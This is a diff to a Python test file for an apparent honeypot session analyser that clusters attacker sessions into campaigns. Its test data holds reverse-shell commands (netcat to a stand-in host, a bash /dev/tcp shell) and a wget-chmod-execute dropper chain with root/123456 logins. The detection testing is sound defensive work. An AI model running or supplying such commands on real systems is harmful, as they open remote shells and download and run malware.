@@ -228,3 +228,26 @@ def test_template_abstracts_variable_parts_and_keeps_artefacts() -> None:
     bare = profile_commands(("nc evil.example.com 4444 -e /bin/sh", "bash -i >& /dev/tcp/7.7.7.7/9001 0>&1"))
     assert bare.hosts == ("7.7.7.7", "evil.example.com")
     assert "evil.example.com" not in " ".join(bare.template)
+
+
+def test_the_same_actor_in_consecutive_intervals_keeps_a_signature_feature() -> None:
+    """Campaign identity across intervals joins occurrences that share a signature feature."""
+    rng = random.Random(14)
+    bots = [random_ip(rng) for _ in range(12)]
+    hours = []
+    for hour in range(2):
+        sessions = [
+            session(
+                ip,
+                hour * 3600 + rng.uniform(0, 3500),
+                logins=[("root", "123456")],
+                success=True,
+                commands=[f"cd /tmp; wget {DROPPER}; chmod +x x86; ./x86"],
+                downloads=[(DROPPER, DROPPER_SHA)],
+            )
+            for ip in bots[hour * 6 : hour * 6 + 6]  # new addresses each hour
+        ]
+        result = analyze_sessions(sessions + background(rng, 20, span_s=3600), {})
+        (campaign,) = [c for c in result.campaigns if c.verdict is not Verdict.COINCIDENTAL]
+        hours.append(set(campaign.signature))
+    assert hours[0] & hours[1]
